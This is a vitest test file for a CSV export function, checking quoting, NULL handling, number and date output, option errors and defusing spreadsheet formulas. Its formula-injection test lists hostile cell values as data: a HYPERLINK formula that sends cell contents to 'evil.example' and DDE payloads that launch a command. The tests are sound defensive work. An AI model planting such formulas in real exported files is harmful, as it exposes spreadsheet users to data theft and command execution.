import { describe, expect, it } from 'vitest';
import { OptionError } from '../../lib/errors';
import { csvField, toCsv } from '../../lib/result/csv';
import { QueryResult } from '../../lib/result/query-result';
import { makeData } from './fixtures';

/**
 * A small RFC 4180 reader written for the test, independent of the writer. An unquoted empty
 * field reads as `null` (NULL), a quoted one as `''`.
 */
function parseCsv(text: string): (string | null)[][] {
  const records: (string | null)[][] = [];
  let record: (string | null)[] = [];
  let i = 0;
  const endField = (value: string | null) => record.push(value);
  while (i < text.length) {
    let value: string | null;
    if (text[i] === '"') {
      value = '';
      i++;
      for (;;) {
        if (i >= text.length) throw new Error('unterminated quote');
        if (text[i] === '"') {
          if (text[i + 1] === '"') {
            value += '"';
            i += 2;
          } else {
            i++;
            break;
          }
        } else {
          value += text[i];
          i++;
        }
      }
    } else {
      let j = i;
      while (j < text.length && text[j] !== ',' && text[j] !== '\r' && text[j] !== '\n') {
        if (text[j] === '"') throw new Error(`bare quote at ${j}`);
        j++;
      }
      value = j === i ? null : text.slice(i, j);
      i = j;
    }
    endField(value);
    if (text[i] === ',') {
      i++;
      if (i === text.length) endField(null);
    } else if (text.startsWith('\r\n', i)) {
      i += 2;
      records.push(record);
      record = [];
    } else if (i < text.length) {
      throw new Error(`unexpected ${JSON.stringify(text[i])} at ${i}`);
    }
  }
  if (record.length > 0) records.push(record);
  return records;
}

describe('toCsv', () => {
  it('keeps NULL (empty, unquoted) and the empty string ("") apart', () => {
    const data = makeData(
      [
        ['a', 'string'],
        ['b', 'string'],
        ['c', 'string'],
      ],
      [[null, '', 'x']],
    );
    expect(toCsv(data)).toBe('a,b,c\r\n,"",x\r\n');
    expect(parseCsv(toCsv(data))).toEqual([
      ['a', 'b', 'c'],
      [null, '', 'x'],
    ]);
  });

  it('writes a header of the original names, repeats kept', () => {
    const data = makeData(
      [
        ['x', 'string'],
        ['x', 'string'],
        ['a,b', 'string'],
      ],
      [],
    );
    expect(toCsv(data)).toBe('x,x,"a,b"\r\n');
  });

  it('round-trips tricky values through an independent parser', () => {
    const tricky = [
      'plain',
      'comma, inside',
      'quote " inside',
      '""',
      '"',
      'line\nbreak',
      'crlf\r\nbreak',
      'cr only\r',
      ' leading and trailing spaces ',
      '=HYPERLINK("http://evil")',
      '+1',
      '@sum',
      'ünïcödé — 日本語 🚨',
      '<script>alert(1)</script>',
      'tab\there',
      'NULL',
      '',
    ];
    const data = makeData(
      [
        ['v', 'string'],
        ['w', 'string'],
      ],
      tricky.map((t) => [t, null]),
    );
    // With keepFormulas, every value comes back exactly; by default, formula-like ones gain a '.
    expect(parseCsv(toCsv(data, { keepFormulas: true })).slice(1)).toEqual(tricky.map((t) => [t, null]));
    const formula = (t: string) => ['=', '+', '-', '@', '\t', '\r'].includes(t.charAt(0));
    expect(parseCsv(toCsv(data)).slice(1)).toEqual(tricky.map((t) => [formula(t) ? `'${t}` : t, null]));
  });

  it("neutralises text a spreadsheet would run as a formula (OWASP: ' in front)", () => {
    const attacks = [
      '=HYPERLINK("http://evil.example/?"&A1,"click")',
      '+cmd|\' /C calc\'!A0',
      '-2+3+cmd|\' /C calc\'!A0',
      '@SUM(1+9)*cmd|\' /C calc\'!A0',
      '\t=1+1',
      '\r=1+1',
    ];
    const harmless = ['user=alice', 'a+b', 'x-y', 'alice@example.com', ' =1', "'=1", ''];
    const data = makeData([['v', 'string']], [...attacks, ...harmless].map((v) => [v]));
    const fields = parseCsv(toCsv(data, { header: false })).map(([v]) => v);
    // Computed independently: the rule applied to each input, then compared with what came back.
    expect(fields).toEqual([...attacks.map((a) => `'${a}`), ...harmless]);
    for (const f of fields.slice(0, attacks.length)) expect(f?.charAt(0)).toBe("'");
    // The header is text too.
    expect(toCsv(makeData([['=cmd', 'string']], []))).toBe("'=cmd\r\n");
  });

  it('leaves numbers alone, in numeric columns whatever their sign', () => {
    const data = makeData(
      [
        ['n', 'bigint'],
        ['d', 'double'],
        ['price', 'decimal'],
        ['s', 'string'],
      ],
      [[-5n, -1.5, '-12.30', '-12.30']],
    );
    expect(toCsv(data, { header: false })).toBe("-5,-1.5,-12.30,'-12.30\r\n");
  });

  it('exports the field writer for other CSV writers, with the same rules', () => {
    expect(csvField('=1+1', 'string')).toBe("'=1+1");
    expect(csvField('=1+1', 'string', { keepFormulas: true })).toBe('=1+1');
    expect(csvField('a;=b', 'string', ';')).toBe('"a;=b"');
    expect(csvField('=a;b', 'string', { delimiter: ';' })).toBe('"\'=a;b"');
    expect(csvField('@x', 'json')).toBe("'@x");
    expect(csvField(null, 'string')).toBe('');
    expect(csvField(-3, 'integer')).toBe('-3');
  });

  it('writes bigints exactly, Dates as ISO, numbers and booleans as text', () => {
    const data = makeData(
      [
        ['n', 'bigint'],
        ['at', 'timestamp'],
        ['day', 'date'],
        ['d', 'double'],
        ['ok', 'boolean'],
        ['price', 'decimal'],
      ],
      [
        [9007199254740993n, new Date(Date.UTC(2024, 0, 2, 3, 4, 5, 6)), new Date(Date.UTC(2024, 0, 2)), 1.5, true, '12.30'],
        [-123456789012345678901234567890n, null, null, Number.NaN, false, null],
        [0n, null, null, -Infinity, null, null],
      ],
    );
    expect(parseCsv(toCsv(data)).slice(1)).toEqual([
      ['9007199254740993', '2024-01-02T03:04:05.006Z', '2024-01-02', '1.5', 'true', '12.30'],
      ['-123456789012345678901234567890', null, null, 'NaN', 'false', null],
      ['0', null, null, '-Infinity', null, null],
    ]);
  });

  it('writes nested values as compact JSON with exact bigints', () => {
    const data = makeData(
      [['req', 'struct']],
      [[{ bucketName: 'b', key: 'a,"b"', sizes: [1n, 9007199254740993n], at: new Date(0) }]],
    );
    const [, [field]] = parseCsv(toCsv(data)) as [unknown, [string]];
    expect(field).toBe('{"bucketName":"b","key":"a,\\"b\\"","sizes":[1,9007199254740993],"at":"1970-01-01T00:00:00.000Z"}');
  });

  it('is what QueryResult.toCsv returns, with options', () => {
    const result = new QueryResult(
      makeData(
        [
          ['a', 'string'],
          ['b', 'integer'],
        ],
        [['x;y', 1]],
      ),
    );
    expect(result.toCsv({ delimiter: ';', newline: '\n', header: false })).toBe('"x;y";1\n');
    expect(result.toCsv()).toBe('a,b\r\nx;y,1\r\n');
  });

  it('rejects unknown and invalid options with OptionError naming them', () => {
    const data = makeData([['a', 'string']], []);
    const bad: [object, string][] = [
      [{ headers: false }, 'headers'],
      [{ delimiter: '"' }, 'delimiter'],
      [{ delimiter: ',,' }, 'delimiter'],
      [{ newline: '\r' }, 'newline'],
      [{ header: 'yes' }, 'header'],
      [{ keepFormulas: 'no' }, 'keepFormulas'],
    ];
    for (const [options, name] of bad) {
      expect(() => toCsv(data, options as never)).toThrow(OptionError);
      try {
        toCsv(data, options as never);
      } catch (e) {
        expect((e as OptionError).option).toBe(name);
      }
    }
  });
});
